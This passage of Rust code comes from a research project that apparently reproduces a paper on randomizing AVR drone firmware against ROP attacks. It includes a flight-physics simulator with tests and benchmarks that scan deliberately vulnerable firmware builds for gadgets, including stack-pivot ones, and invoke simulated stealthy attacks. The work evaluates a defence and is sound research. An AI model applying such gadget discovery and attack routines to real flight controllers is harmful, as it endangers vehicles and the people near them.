pub use math::{Quat, Vec3};
pub use sensors::{SensorRig, ADC_FULL_SCALE};

use rand::rngs::StdRng;
use rand::SeedableRng;

/// The altitude the firmware's setpoint (100 counts at 2 counts/m)
/// corresponds to. Excursion metrics are measured against this.
pub const TARGET_ALT_M: f64 = 50.0;

/// Descent speed at touchdown beyond which the landing counts as a
/// ground impact (crash) rather than a landing.
pub const CRASH_IMPACT_MPS: f64 = 2.0;

/// Initial conditions and noise environment for a flight.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Scenario {
    /// Start on the setpoint at 50 m, light sensor noise.
    Hover,
    /// Start high at 75 m with no initial velocity: the controller must
    /// descend to the setpoint without overshooting into the ground.
    Drop,
    /// Start on the setpoint but with heavy sensor noise, as in gusty
    /// air with vibrating instruments.
    Turbulent,
}

impl Scenario {
    /// All scenarios, in id order.
    pub fn all() -> [Scenario; 3] {
        [Scenario::Hover, Scenario::Drop, Scenario::Turbulent]
    }

    /// Parse a CLI-style name (case-insensitive).
    pub fn parse(s: &str) -> Option<Scenario> {
        match s.to_ascii_lowercase().as_str() {
            "hover" => Some(Scenario::Hover),
            "drop" => Some(Scenario::Drop),
            "turbulent" => Some(Scenario::Turbulent),
            _ => None,
        }
    }

    /// Stable display / CLI name.
    pub fn name(self) -> &'static str {
        match self {
            Scenario::Hover => "hover",
            Scenario::Drop => "drop",
            Scenario::Turbulent => "turbulent",
        }
    }

    /// Stable wire id (used by the snapshot encoding).
    pub fn id(self) -> u8 {
        match self {
            Scenario::Hover => 0,
            Scenario::Drop => 1,
            Scenario::Turbulent => 2,
        }
    }

    /// Inverse of [`Scenario::id`].
    pub fn from_id(id: u8) -> Option<Scenario> {
        match id {
            0 => Some(Scenario::Hover),
            1 => Some(Scenario::Drop),
            2 => Some(Scenario::Turbulent),
            _ => None,
        }
    }

    fn noise_counts(self) -> f64 {
        match self {
            Scenario::Hover | Scenario::Drop => 2.0,
            Scenario::Turbulent => 8.0,
        }
    }

    fn initial_alt(self) -> f64 {
        match self {
            Scenario::Hover | Scenario::Turbulent => TARGET_ALT_M,
            Scenario::Drop => 75.0,
        }
    }
}

/// The simulated physical world: one rigid body, its sensor rig, the
/// noise RNG, and the impact metrics the fleet reports on.
#[derive(Debug, Clone)]
pub struct World {
    /// Physical constants.
    pub params: WorldParams,
    /// Sensor transfer functions and noise amplitude.
    pub rig: SensorRig,
    /// The vehicle.
    pub body: RigidBody,
    /// Which scenario initialized this world.
    pub scenario: Scenario,
    rng: StdRng,
    steps: u64,
    peak_alt_err: f64,
    ground_impacts: u32,
    grounded: bool,
}

impl World {
    /// Create a world in the scenario's initial conditions. Same
    /// `(scenario, seed)` ⇒ bit-identical trajectories for the same
    /// inputs.
    pub fn new(scenario: Scenario, seed: u64) -> World {
        World {
            params: WorldParams::default(),
            rig: SensorRig {
                noise_counts: scenario.noise_counts(),
            },
            body: RigidBody {
                pos: Vec3::new(0.0, 0.0, scenario.initial_alt()),
                ..RigidBody::default()
            },
            scenario,
            rng: StdRng::seed_from_u64(seed),
            steps: 0,
            peak_alt_err: 0.0,
            ground_impacts: 0,
            grounded: false,
        }
    }

    /// Sample the sensor rig (exactly 6 RNG draws; see [`SensorRig`]).
    pub fn sample(&mut self) -> [u16; 3] {
        self.rig.sample(&self.body, &mut self.rng)
    }

    /// Advance one timestep with the given motor commands, updating the
    /// impact metrics.
    pub fn step(&mut self, thrust_duty: f64, pitch_duty: f64) {
        let contact = self.body.step(&self.params, thrust_duty, pitch_duty);
        if contact.on_ground {
            if !self.grounded && contact.impact_vz < -CRASH_IMPACT_MPS {
                self.ground_impacts += 1;
            }
            self.grounded = true;
        } else {
            self.grounded = false;
        }
        let err = (self.body.pos.z - TARGET_ALT_M).abs();
        if err > self.peak_alt_err {
            self.peak_alt_err = err;
        }
        self.steps += 1;
    }

    /// Current altitude above ground, meters.
    pub fn altitude(&self) -> f64 {
        self.body.pos.z
    }

    /// Timesteps taken so far.
    pub fn steps(&self) -> u64 {
        self.steps
    }

    /// Hard ground impacts (touchdowns faster than
    /// [`CRASH_IMPACT_MPS`]) so far.
    pub fn ground_impacts(&self) -> u32 {
        self.ground_impacts
    }

    /// Whether the vehicle currently sits on the ground.
    pub fn on_ground(&self) -> bool {
        self.grounded
    }

    /// Peak `|altitude − TARGET_ALT_M|` since the last call, and reset
    /// the window. Campaigns reset this at the start of an observation
    /// window (e.g. when a V2 stealthy write lands) to isolate the
    /// excursion the attack caused.
    pub fn take_peak_alt_err(&mut self) -> f64 {
        std::mem::take(&mut self.peak_alt_err)
    }

    /// Peak `|altitude − TARGET_ALT_M|` in the current window, without
    /// resetting.
    pub fn peak_alt_err(&self) -> f64 {
        self.peak_alt_err
    }

    /// Capture the complete dynamic state for checkpointing.
    pub fn state(&self) -> WorldState {
        WorldState {
            scenario: self.scenario.id(),
            pos: [self.body.pos.x, self.body.pos.y, self.body.pos.z],
            vel: [self.body.vel.x, self.body.vel.y, self.body.vel.z],
            att: [
                self.body.att.w,
                self.body.att.x,
                self.body.att.y,
                self.body.att.z,
            ],
            omega: [self.body.omega.x, self.body.omega.y, self.body.omega.z],
            rng: self.rng.state(),
            steps: self.steps,
            peak_alt_err: self.peak_alt_err,
            ground_impacts: self.ground_impacts,
            grounded: self.grounded,
        }
    }

    /// Rebuild a world from a captured state. Returns `None` for an
    /// unknown scenario id.
    pub fn restore(s: &WorldState) -> Option<World> {
        let scenario = Scenario::from_id(s.scenario)?;
        Some(World {
            params: WorldParams::default(),
            rig: SensorRig {
                noise_counts: scenario.noise_counts(),
            },
            body: RigidBody {
                pos: Vec3::new(s.pos[0], s.pos[1], s.pos[2]),
                vel: Vec3::new(s.vel[0], s.vel[1], s.vel[2]),
                att: Quat {
                    w: s.att[0],
                    x: s.att[1],
                    y: s.att[2],
                    z: s.att[3],
                },
                omega: Vec3::new(s.omega[0], s.omega[1], s.omega[2]),
            },
            scenario,
            rng: StdRng::from_state(s.rng),
            steps: s.steps,
            peak_alt_err: s.peak_alt_err,
            ground_impacts: s.ground_impacts,
            grounded: s.grounded,
        })
    }
}

/// Plain-data capture of a [`World`], for the snapshot wire. Floats are
/// carried as `f64` here; the encoder stores their exact bit patterns,
/// so restore ⇒ bit-identical continuation.
#[derive(Debug, Clone, Copy, PartialEq)]
pub struct WorldState {
    /// [`Scenario::id`] of the scenario that created the world.
    pub scenario: u8,
    /// Position (x, y, z), meters.
    pub pos: [f64; 3],
    /// Velocity, m/s.
    pub vel: [f64; 3],
    /// Attitude quaternion (w, x, y, z).
    pub att: [f64; 4],
    /// Body angular rate, rad/s.
    pub omega: [f64; 3],
    /// Noise RNG stream position.
    pub rng: [u64; 4],
    /// Timesteps taken.
    pub steps: u64,
    /// Peak altitude error in the current observation window.
    pub peak_alt_err: f64,
    /// Hard ground impacts so far.
    pub ground_impacts: u32,
    /// On-ground latch.
    pub grounded: bool,
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn scenario_ids_round_trip() {
        for s in Scenario::all() {
            assert_eq!(Scenario::from_id(s.id()), Some(s));
            assert_eq!(Scenario::parse(s.name()), Some(s));
        }
        assert_eq!(Scenario::from_id(9), None);
        assert_eq!(Scenario::parse("orbit"), None);
    }

    #[test]
    fn state_round_trip_resumes_bit_identically() {
        let mut a = World::new(Scenario::Turbulent, 42);
        // Fly an arbitrary open-loop profile for a while.
        for i in 0..800u32 {
            let _ = a.sample();
            a.step(0.6, if i % 7 == 0 { 0.05 } else { -0.01 });
        }
        let mid = a.state();
        let mut b = World::restore(&mid).unwrap();
        for _ in 0..500u32 {
            let sa = a.sample();
            let sb = b.sample();
            assert_eq!(sa, sb);
            a.step(0.5, 0.0);
            b.step(0.5, 0.0);
        }
        assert_eq!(a.state(), b.state());
    }

    #[test]
    fn free_fall_from_drop_is_counted_as_impact() {
        let mut w = World::new(Scenario::Drop, 7);
        for _ in 0..20_000 {
            let _ = w.sample();
            w.step(0.0, 0.0);
            if w.on_ground() {
                break;
            }
        }
        assert!(w.on_ground());
        assert_eq!(w.ground_impacts(), 1);
        // Falling 25 m past the setpoint then to the ground: the peak
        // error is the full 50 m.
        assert!(w.peak_alt_err() > 49.0);
    }

    #[test]
    fn peak_error_window_resets() {
        let mut w = World::new(Scenario::Hover, 3);
        for _ in 0..200 {
            let _ = w.sample();
            w.step(0.0, 0.0); // fall a little
        }
        assert!(w.take_peak_alt_err() > 0.0);
        assert_eq!(w.peak_alt_err(), 0.0);
    }
}
