//! Substrate microbenchmarks: simulator throughput, protocol codec rates,
//! and container round-trip cost — the "how fast is the lab equipment"
//! numbers behind every experiment.

use criterion::{criterion_group, criterion_main, Criterion, Throughput};
use mavlink_lite::{GroundStation, Parser};
use synth_firmware::{apps, build, BuildOptions};

fn bench(c: &mut Criterion) {
    let fw = build(&apps::tiny_test_app(), &BuildOptions::safe_mavr()).unwrap();

    // Simulated CPU cycles per second of host time.
    let mut g = c.benchmark_group("simulator");
    g.throughput(Throughput::Elements(1_000_000));
    g.bench_function("run_1M_cycles/tiny_firmware", |b| {
        b.iter_batched(
            || {
                let mut m = avr_sim::Machine::new_atmega2560();
                m.load_flash(0, &fw.image.bytes);
                m
            },
            |mut m| {
                m.run(1_000_000);
                m
            },
            criterion::BatchSize::LargeInput,
        )
    });
    // The pre-predecode interpreter: cache disabled, every fetch decodes
    // flash bytes and the careful per-step loop runs. The gap between this
    // and the bare run above is the win recorded in BENCH_simulator.json.
    g.bench_function("run_1M_cycles/tiny_firmware_uncached", |b| {
        b.iter_batched(
            || {
                let mut m = avr_sim::Machine::new_atmega2560();
                m.set_predecode(false);
                m.load_flash(0, &fw.image.bytes);
                m
            },
            |mut m| {
                m.run(1_000_000);
                m
            },
            criterion::BatchSize::LargeInput,
        )
    });
    // Same run with the flight recorder armed (NullRecorder counts events
    // and discards them). Events only fire on cold paths, so this should be
    // within noise of the bare run — the "<2% overhead" claim in DESIGN.md.
    g.bench_function("run_1M_cycles/tiny_firmware_null_recorder", |b| {
        b.iter_batched(
            || {
                let mut m = avr_sim::Machine::new_atmega2560();
                m.telemetry = telemetry::Telemetry::new(telemetry::NullRecorder::default());
                m.load_flash(0, &fw.image.bytes);
                m
            },
            |mut m| {
                m.run(1_000_000);
                m
            },
            criterion::BatchSize::LargeInput,
        )
    });
    g.finish();

    // MAVLink parse throughput over a realistic telemetry stream.
    let mut m = avr_sim::Machine::new_atmega2560();
    m.load_flash(0, &fw.image.bytes);
    m.run(2_000_000);
    let stream = m.uart0.take_tx();
    assert!(!stream.is_empty());
    let mut g = c.benchmark_group("mavlink");
    g.throughput(Throughput::Bytes(stream.len() as u64));
    g.bench_function("parse_telemetry_stream", |b| {
        b.iter(|| {
            let mut p = Parser::new();
            p.push_all(std::hint::black_box(&stream)).len()
        })
    });
    g.finish();

    // Ground-station encode rate.
    c.bench_function("encode_param_set", |b| {
        let mut gcs = GroundStation::new();
        b.iter(|| gcs.param_set(b"RATE_RLL_P", 1.25))
    });

    // Container serialize/parse on a full-size app.
    let rover = build(&apps::synth_rover(), &BuildOptions::safe_mavr()).unwrap();
    let container = mavr::preprocess(&rover.image).unwrap();
    let text = container.to_text();
    let mut g = c.benchmark_group("container");
    g.sample_size(10);
    g.throughput(Throughput::Bytes(text.len() as u64));
    g.bench_function("serialize/synth_rover", |b| {
        b.iter(|| container.to_text().len())
    });
    g.bench_function("parse/synth_rover", |b| {
        b.iter(|| {
            hexfile::MavrContainer::parse(&text)
                .unwrap()
                .image
                .code_size()
        })
    });
    g.finish();
}

criterion_group!(benches, bench);
criterion_main!(benches);
