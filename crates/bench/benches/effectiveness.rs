//! E4 / §VII-A — effectiveness: gadget population of the paper-scale
//! target, attack success against unprotected vs randomized images, and the
//! cost of the scanner, the randomizer and one attack round.

use criterion::{criterion_group, criterion_main, Criterion};
use mavr::{randomize, RandomizeOptions};
use rop::scanner::{classify, scan, ScanOptions};
use synth_firmware::{apps, build, BuildOptions};

fn bench(c: &mut Criterion) {
    let fw = build(&apps::synth_plane(), &BuildOptions::vulnerable_mavr()).unwrap();
    let unique = scan(&fw.image, &ScanOptions::default());
    let all = scan(
        &fw.image,
        &ScanOptions {
            dedup: false,
            ..Default::default()
        },
    );
    println!(
        "Effectiveness: {} unique gadgets / {} start addresses in SynthPlane (paper: 953 gadgets)",
        unique.len(),
        all.len()
    );
    let st = rop::scanner::stats(&unique);
    println!(
        "Gadget stats: {} with pops, {} with stores, {} stack-pivot capable",
        st.with_pops, st.with_stores, st.with_sp_writes
    );
    assert!(classify(&fw.image).is_some(), "attack gadgets present");

    // Attack outcome summary on the small app (fast enough to repeat).
    let e = mavr_bench::effectiveness(&apps::tiny_test_app(), 8);
    println!(
        "Effectiveness: stealthy attack {}/{} vs unprotected, {}/{} vs randomized, {}/{} detected",
        e.stock_successes,
        e.stock_attempts,
        e.randomized_successes,
        e.randomized_attempts,
        e.randomized_detected,
        e.randomized_attempts,
    );
    assert_eq!(e.randomized_successes, 0);

    let mut g = c.benchmark_group("paper_scale");
    g.sample_size(10);
    g.bench_function("gadget_scan/synth_plane", |b| {
        b.iter(|| scan(std::hint::black_box(&fw.image), &ScanOptions::default()).len())
    });
    g.bench_function("randomize_and_patch/synth_plane", |b| {
        let mut rng = mavr::seeded_rng(7);
        b.iter(|| randomize(&fw.image, &mut rng, &RandomizeOptions::default()).unwrap())
    });
    g.finish();

    let tiny = build(&apps::tiny_test_app(), &BuildOptions::vulnerable_mavr()).unwrap();
    c.bench_function("attack_discovery/tiny", |b| {
        b.iter(|| rop::attack::AttackContext::discover(&tiny.image).unwrap())
    });
}

criterion_group!(benches, bench);
criterion_main!(benches);
