//! E3 / Table III — code size under the stock vs MAVR toolchains, plus the
//! uncalibrated (natural) delta ablation; benchmarks the linker under both
//! flag sets.

use criterion::{criterion_group, criterion_main, Criterion};
use synth_firmware::{apps, build, AppSpec, BuildOptions};

fn bench(c: &mut Criterion) {
    for spec in apps::all_paper_apps() {
        let stock = build(&spec, &BuildOptions::safe_stock()).unwrap();
        let mavr = build(&spec, &BuildOptions::safe_mavr()).unwrap();
        println!(
            "Table III: {:<12} stock {:>7}  mavr {:>7}  (calibrated to paper)",
            spec.name,
            stock.image.code_size(),
            mavr.image.code_size()
        );
    }

    // Ablation: the *natural* (uncalibrated) effect of the flags — with no
    // padding, relaxation + call-prologues make the stock build smaller;
    // the paper's slight MAVR-side decrease came from its leaner custom
    // toolchain, which our calibration reproduces.
    let natural = AppSpec {
        stock_size: None,
        mavr_size: None,
        ..apps::synth_rover()
    };
    let stock = build(&natural, &BuildOptions::safe_stock()).unwrap();
    let mavr = build(&natural, &BuildOptions::safe_mavr()).unwrap();
    println!(
        "Ablation (natural sizes, SynthRover): stock {} vs mavr {} bytes ({:+} from the flags)",
        stock.image.code_size(),
        mavr.image.code_size(),
        i64::from(mavr.image.code_size()) - i64::from(stock.image.code_size())
    );

    let mut g = c.benchmark_group("link_toolchains");
    g.sample_size(10);
    g.bench_function("stock_relaxed/synth_rover", |b| {
        b.iter(|| build(&natural, &BuildOptions::safe_stock()).unwrap())
    });
    g.bench_function("mavr_no_relax/synth_rover", |b| {
        b.iter(|| build(&natural, &BuildOptions::safe_mavr()).unwrap())
    });
    g.finish();
}

criterion_group!(benches, bench);
criterion_main!(benches);
