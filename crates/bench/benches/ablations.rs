//! Ablations for the design choices the paper argues for:
//!
//! * `--no-relax` (§VI-B1): force-randomizing a relax-built image breaks it;
//! * `-mno-call-prologues` (§VI-B1): the shared blob concentrates gadget
//!   bytes and leaks its location through hundreds of call sites;
//! * randomization frequency vs the 10,000-cycle flash endurance (§V-C);
//! * random inter-function padding (§VIII-B): entropy gain the paper
//!   deemed unnecessary.

use avr_core::decode::decode_at;
use avr_core::Insn;
use criterion::{criterion_group, criterion_main, Criterion};
use mavr::policy::RandomizationPolicy;
use mavr::{randomize, RandomizeOptions};
use synth_firmware::{apps, build, BuildOptions};

fn relax_ablation() {
    let img = build(&apps::tiny_test_app(), &BuildOptions::safe_stock())
        .unwrap()
        .image;
    // Default: rejected.
    let err = randomize(&img, &mut mavr::seeded_rng(1), &RandomizeOptions::default()).unwrap_err();
    println!("Ablation --no-relax: relax-built image rejected ({err})");
    // Forced: broken.
    let opts = RandomizeOptions {
        ignore_relaxed_branches: true,
        ..Default::default()
    };
    let mut deaths = 0;
    let trials = 10;
    for seed in 0..trials {
        let r = randomize(&img, &mut mavr::seeded_rng(seed), &opts).unwrap();
        let mut m = avr_sim::Machine::new_atmega2560();
        m.load_flash(0, &r.image.bytes);
        let exit = m.run(2_000_000);
        if !exit.is_healthy() || m.heartbeat.toggles().len() < 5 {
            deaths += 1;
        }
    }
    println!("Ablation --no-relax: force-randomized relax builds died {deaths}/{trials} times");
}

fn call_prologue_ablation() {
    use rop::scanner::{scan, ScanOptions};
    let spec = apps::tiny_test_app();
    let stock = build(&spec, &BuildOptions::safe_stock()).unwrap().image;
    let mavr_img = build(&spec, &BuildOptions::safe_mavr()).unwrap().image;

    // References to the shared blobs: the location leak the paper warns
    // about — every caller encodes the blob's address, whether as a long
    // `call` or a relaxed `rcall`.
    let blobs: Vec<(u32, u32)> = ["__prologue_saves__", "__epilogue_restores__"]
        .iter()
        .map(|n| {
            let s = stock.symbol(n).expect("stock build has the blob");
            (s.addr, s.end())
        })
        .collect();
    let in_blobs = |byte: u32| blobs.iter().any(|&(a, e)| byte >= a && byte < e);
    let mut refs = 0;
    let mut off = 0u32;
    while off + 1 < stock.text_end {
        let Some((insn, words)) = decode_at(&stock.bytes, off as usize) else {
            break;
        };
        let target = match insn {
            Insn::Call { k } | Insn::Jmp { k } => Some(k * 2),
            Insn::Rcall { k } | Insn::Rjmp { k } => {
                Some(off.wrapping_add(2).wrapping_add_signed(i32::from(k) * 2))
            }
            _ => None,
        };
        if target.map(in_blobs).unwrap_or(false) {
            refs += 1;
        }
        off += words * 2;
    }

    // Register-restore gadget concentration: the blob hosts long pop runs
    // that flow (through its return trampoline) into ret; per-function
    // epilogues scatter the equivalent gadgets across the whole image.
    let opts = ScanOptions {
        max_insns: 24,
        dedup: false,
    };
    let stock_gadgets = scan(&stock, &opts);
    let in_blob = stock_gadgets.iter().filter(|g| in_blobs(g.addr)).count();
    let pops = |g: &rop::Gadget| {
        g.insns
            .iter()
            .filter(|i| matches!(i, Insn::Pop { .. }))
            .count()
    };
    let stock_restore = stock_gadgets.iter().filter(|g| pops(g) >= 4).count();
    let mavr_restore = scan(&mavr_img, &opts)
        .iter()
        .filter(|g| pops(g) >= 4)
        .count();
    println!(
        "Ablation -mcall-prologues: {refs} call sites reference the shared blobs \
         ({in_blob} gadget start addresses inside them); register-restore gadgets: \
         {stock_restore} (stock, concentrated) vs {mavr_restore} (MAVR toolchain, scattered)"
    );
    assert!(
        refs > 10,
        "the blob must be referenced from many call sites"
    );
    assert!(
        mavr_restore > stock_restore,
        "per-function epilogues scatter the gadgets"
    );
}

fn wear_ablation() {
    let endurance = avr_core::device::ATMEGA2560.flash_endurance_cycles;
    println!("Ablation randomization frequency vs flash endurance ({endurance} cycles):");
    for n in [1u32, 5, 10, 50, 100] {
        let p = RandomizationPolicy {
            every_n_boots: n,
            on_attack: true,
        };
        println!(
            "  every {n:>3} boots -> lifetime {:>9.0} boots (no attacks), {:>9.0} (1% attack rate)",
            p.lifetime_boots(endurance, 0.0),
            p.lifetime_boots(endurance, 0.01)
        );
    }
}

fn padding_ablation() {
    println!("Ablation inter-function padding (§VIII-B):");
    for pad_choices in [1u64, 4, 16, 64] {
        println!(
            "  800 fns, {pad_choices:>2} pad choices -> {:.0} bits (baseline {:.0})",
            mavr::math::entropy_bits_with_padding(800, pad_choices),
            mavr::math::entropy_bits(800)
        );
    }
    println!("  -> the baseline is already computationally secure; padding unnecessary.");
}

fn bench(c: &mut Criterion) {
    relax_ablation();
    call_prologue_ablation();
    wear_ablation();
    padding_ablation();

    // Micro-benchmark: the constraint-repair path of the randomizer on a
    // big image (SynthRover crosses the 128 KiB icall boundary).
    let img = build(&apps::synth_rover(), &BuildOptions::safe_mavr())
        .unwrap()
        .image;
    let mut g = c.benchmark_group("randomize_constrained");
    g.sample_size(10);
    g.bench_function("synth_rover", |b| {
        let mut rng = mavr::seeded_rng(3);
        b.iter(|| randomize(&img, &mut rng, &RandomizeOptions::default()).unwrap())
    });
    g.finish();
}

criterion_group!(benches, bench);
criterion_main!(benches);
