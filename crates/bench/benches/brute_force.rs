//! E5 / §V-D and E6 / §VIII-B — brute-force effort and entropy: Monte-Carlo
//! vs closed form, and exact log2(n!) for the paper's applications.

use criterion::{criterion_group, criterion_main, Criterion};

fn bench(c: &mut Criterion) {
    // §V-D: empirical means against theory for a simulable N.
    for n in [3usize, 4, 5] {
        let (mf, ef, mr, er) = mavr_bench::bruteforce(n, 30_000);
        println!(
            "Brute force n={n}: fixed {mf:.2} (theory {ef:.2}), re-randomized {mr:.2} (theory {er:.2})"
        );
    }
    // §VIII-B: entropy for the real apps.
    for spec in synth_firmware::apps::all_paper_apps() {
        println!(
            "Entropy: {:<12} log2({}!) = {:.0} bits",
            spec.name,
            spec.functions,
            mavr::math::entropy_bits(spec.functions as u64)
        );
    }
    println!(
        "Entropy: 800 functions -> {:.0} bits (paper: 6567)",
        mavr::math::entropy_bits(800)
    );

    c.bench_function("entropy_bits/800", |b| {
        b.iter(|| mavr::math::entropy_bits(std::hint::black_box(800)))
    });
    c.bench_function("simulate_rerandomized/n=4", |b| {
        let mut rng = rop::brute::seeded_rng(1);
        b.iter(|| rop::brute::simulate_rerandomized(4, &mut rng))
    });
    c.bench_function("simulate_mechanistic_fixed/n=4", |b| {
        let mut rng = rop::brute::seeded_rng(2);
        b.iter(|| rop::brute::simulate_mechanistic_fixed(4, &mut rng))
    });
}

criterion_group!(benches, bench);
criterion_main!(benches);
