//! E2 / Table II — startup overhead: the full master boot path
//! (read container, randomize, patch, program) measured in host time, and
//! the modelled on-board milliseconds the paper reports.

use criterion::{criterion_group, criterion_main, Criterion};
use mavr::policy::RandomizationPolicy;
use mavr_board::{AppProcessor, ExternalFlash, MasterProcessor, SerialLink};
use synth_firmware::{apps, build, BuildOptions};

fn bench(c: &mut Criterion) {
    // The paper's table, from the timing model.
    let link = SerialLink::prototype();
    for spec in apps::all_paper_apps() {
        let fw = build(&spec, &BuildOptions::safe_mavr()).unwrap();
        println!(
            "Table II: {:<12} {:>6.0} ms at 115200 baud (paper: see table)",
            spec.name,
            link.transfer_ms(fw.image.code_size())
        );
    }

    // Host-side cost of one full randomized boot (rover = smallest app).
    let fw = build(&apps::synth_rover(), &BuildOptions::safe_mavr()).unwrap();
    let container = mavr::preprocess(&fw.image).unwrap();
    let mut chip = ExternalFlash::new();
    chip.upload(&container).unwrap();

    let mut g = c.benchmark_group("master_boot");
    g.sample_size(10);
    g.bench_function("randomize_and_program/synth_rover", |b| {
        b.iter(|| {
            let mut master = MasterProcessor::new(1, RandomizationPolicy::default());
            let mut app = AppProcessor::new();
            master.boot(&chip, &mut app, false).unwrap()
        })
    });
    g.finish();

    c.bench_function("timing_model/transfer_ms", |b| {
        b.iter(|| link.transfer_ms(std::hint::black_box(221_294)))
    });
}

criterion_group!(benches, bench);
criterion_main!(benches);
