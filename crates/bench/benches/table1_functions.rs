//! E1 / Table I — build the calibrated applications and count their
//! randomizable function symbols; benchmarks the preprocessing pipeline
//! (symbol extraction + container encode) the paper's host phase runs.

use criterion::{criterion_group, criterion_main, Criterion};
use synth_firmware::{apps, build, BuildOptions};

fn bench(c: &mut Criterion) {
    // Regenerate the table once, printed alongside the measurements.
    for spec in apps::all_paper_apps() {
        let fw = build(&spec, &BuildOptions::safe_mavr()).unwrap();
        println!(
            "Table I: {:<12} {:>5} functions (paper: {})",
            spec.name,
            fw.image.function_count(),
            spec.functions
        );
        assert_eq!(fw.image.function_count(), spec.functions);
    }

    let fw = build(&apps::synth_rover(), &BuildOptions::safe_mavr()).unwrap();
    c.bench_function("count_functions/synth_rover", |b| {
        b.iter(|| std::hint::black_box(&fw.image).function_count())
    });
    c.bench_function("preprocess_container/synth_rover", |b| {
        b.iter(|| mavr::preprocess(std::hint::black_box(&fw.image)).unwrap())
    });

    let mut g = c.benchmark_group("build_calibrated_app");
    g.sample_size(10);
    g.bench_function("synth_rover", |b| {
        b.iter(|| build(&apps::synth_rover(), &BuildOptions::safe_mavr()).unwrap())
    });
    g.finish();
}

criterion_group!(benches, bench);
criterion_main!(benches);
