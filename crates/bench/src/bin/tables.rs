//! Regenerate every table and figure of the paper's evaluation.
//!
//! ```text
//! cargo run -p mavr-bench --bin tables --release            # everything
//! cargo run -p mavr-bench --bin tables --release -- table2  # one experiment
//! ```
//!
//! Experiments: `table1 table2 table3 effectiveness bruteforce entropy
//! software-only fig2 gadgets fig6 counters`. The full `effectiveness` run uses
//! the paper-scale SynthPlane target; pass `effectiveness-quick` for the small
//! test app.
//!
//! `bench-simulator` (or `bench-simulator-quick` for CI smoke) must be
//! named explicitly — it times the interpreter with the predecode cache on
//! and off and rewrites `BENCH_simulator.json` at the repo root, so it is
//! not part of the default `all` run. Likewise `bench-fleet` (or
//! `bench-fleet-quick`) times the campaign engine at 1/8/32 boards and
//! rewrites `BENCH_fleet.json`, `bench-snapshot` (or
//! `bench-snapshot-quick`) times full vs dirty-page-delta machine
//! snapshots and rewrites `BENCH_snapshot.json`, `bench-chaos` (or
//! `bench-chaos-quick`) sweeps fault-injection rates through a stealthy
//! fleet campaign and rewrites `BENCH_chaos.json`, and `bench-telemetry`
//! (or `bench-telemetry-quick`) measures the observability plane —
//! null-recorder simulator overhead, metrics record/merge throughput and
//! exposition cost — and rewrites `BENCH_telemetry.json`, and
//! `bench-world` (or `bench-world-quick`) measures what closing the
//! physical loop costs the fused fast path and rewrites
//! `BENCH_world.json`, and `bench-campaignd` (or
//! `bench-campaignd-quick`) runs sharded campaigns spanning two orders
//! of magnitude in size through the campaign service, records peak RSS
//! per size to prove the service's memory is O(shard) rather than
//! O(campaign), and rewrites `BENCH_campaignd.json`, and `bench-robust`
//! (or `bench-robust-quick`) measures the service's supervision
//! machinery — kill-to-checkpointed-progress MTTR under injected disk
//! faults, and quarantine overhead under a seeded poison-job sweep — and
//! rewrites `BENCH_robust.json`.

use mavr_bench as exp;
use synth_firmware::{apps, build, BuildOptions};

fn mavr_repro_leak(n: usize) -> f64 {
    rop::brute::expected_incremental_leak(n as f64)
}

fn main() {
    let args: Vec<String> = std::env::args().skip(1).collect();
    let all = args.is_empty() || args.iter().any(|a| a == "all");
    let want = |name: &str| all || args.iter().any(|a| a == name);

    if want("table1") {
        println!(
            "{}",
            exp::render(
                "Table I: number of functions (paper: 917 / 1030 / 800)",
                &["Functions"],
                &exp::table1()
            )
        );
        let rows = exp::table1();
        let mut v: Vec<f64> = rows.iter().map(|r| r.values[0]).collect();
        v.sort_by(f64::total_cmp);
        let mean = v.iter().sum::<f64>() / v.len() as f64;
        println!(
            "  mean {mean:.0} (paper: avg 915)   median {} (paper: 917)\n",
            v[v.len() / 2]
        );
    }

    if want("table2") {
        println!(
            "{}",
            exp::render(
                "Table II: MAVR startup overhead, ms (paper: 19209 / 21206 / 15412)",
                &["Time (ms)"],
                &exp::table2()
            )
        );
        println!(
            "{}",
            exp::render(
                "Table II production estimate (paper: ~4000 ms)",
                &["Time (ms)"],
                &exp::table2_production()
            )
        );
    }

    if want("table3") {
        println!(
            "{}",
            exp::render(
                "Table III: code size, bytes (paper: 221608/221294, 244532/244292, 177870/177556)",
                &["Stock", "MAVR"],
                &exp::table3()
            )
        );
    }

    if want("effectiveness") || want("effectiveness-quick") {
        let quick = args.iter().any(|a| a == "effectiveness-quick");
        let (spec, trials) = if quick {
            (apps::tiny_test_app(), 10)
        } else {
            (apps::synth_plane(), 10)
        };
        println!("== Effectiveness (§VII-A) on {} ==", spec.name);
        let e = exp::effectiveness(&spec, trials);
        println!("  gadgets found (unique sequences) : {}", e.gadgets_unique);
        println!("  gadgets found (all start addrs)  : {}", e.gadgets_total);
        println!("  paper reports                    : 953");
        println!(
            "  stealthy attack vs unprotected   : {}/{} succeeded",
            e.stock_successes, e.stock_attempts
        );
        println!(
            "  stealthy attack vs randomized    : {}/{} succeeded (paper: none)",
            e.randomized_successes, e.randomized_attempts
        );
        println!(
            "  failed attacks detected+reflashed: {}/{}",
            e.randomized_detected, e.randomized_attempts
        );
        println!(
            "  gadget addresses surviving shuffle: {} of {} start addrs\n",
            e.gadget_survivors, e.gadgets_total
        );
    }

    if want("bruteforce") {
        println!("== Brute force effort (§V-D), n = 4 functions (N = 24 permutations) ==");
        let (mf, ef, mr, er) = exp::bruteforce(4, 50_000);
        println!("  fixed permutation   : simulated {mf:.2}, theory (N+1)/2 = {ef:.2}");
        println!("  with re-randomize   : simulated {mr:.2}, theory N = {er:.2}");
        println!("  -> re-randomization doubles the expected effort; for the real");
        println!("     apps N = n! is astronomically large (see entropy).\n");
    }

    if want("software-only") || want("viii-a") {
        println!(
            "== Software-only ablation (§VIII-A): fixed permutation vs re-randomizing MAVR =="
        );
        println!(
            "{:<14}{:>26}{:>26}",
            "Application", "leak probes (fixed)", "entropy (re-rand), bits"
        );
        for spec in apps::all_paper_apps() {
            println!(
                "{:<14}{:>26.0}{:>26.0}",
                spec.name,
                mavr_repro_leak(spec.functions),
                mavr::math::entropy_bits(spec.functions as u64)
            );
        }
        println!("  -> with crash feedback a fixed layout falls in ~n(n+3)/4 probes;");
        println!("     re-randomization keeps the cost at ~n! — the dual-processor design.\n");
    }

    if want("entropy") {
        println!(
            "{}",
            exp::render(
                "Entropy (§VIII-B): log2(n!) bits (paper: 800 fns => 6567 bits)",
                &["Bits"],
                &exp::entropy()
            )
        );
    }

    if want("fig2") {
        println!("{}", exp::fig2());
    }

